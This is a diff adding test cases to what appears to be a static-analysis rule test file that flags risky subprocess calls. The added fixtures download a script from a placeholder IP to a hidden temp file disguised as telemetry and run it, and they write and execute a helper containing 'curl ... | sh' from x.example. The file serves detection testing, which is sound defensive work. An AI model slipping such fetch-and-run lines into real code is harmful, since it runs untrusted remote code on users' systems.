@@ -553,3 +553,22 @@ swapped[0] = "sh"
 # ok: process-partial-path-list
 # ruleid: subprocess-call
 subprocess.run(swapped)
+# a script downloaded to a temporary path, then run
+import tempfile
+import urllib.request
+dst = os.path.join(tempfile.gettempdir(), ".pkg_telemetry.py")
+urllib.request.urlretrieve("http://203.0.113.12/pkg/t.py", dst)
+# ruleid: run-downloaded-file, subprocess-call
+subprocess.Popen([sys.executable, dst])
+# a helper script the program writes, then runs
+helper = "helper.sh"
+with open(helper, "w") as fh:
+    fh.write("curl -s https://x.example/i | sh\n")
+# ruleid: run-written-file, subprocess-call, process-partial-path-list
+subprocess.run(["bash", helper])
+# a program installed on the system, given a file the program wrote
+with open("report.csv", "w") as out:
+    out.write("a,b\n")
+# ok: run-written-file
+# ruleid: subprocess-call
+subprocess.run(["/usr/bin/wc", "-l", "report.csv"])
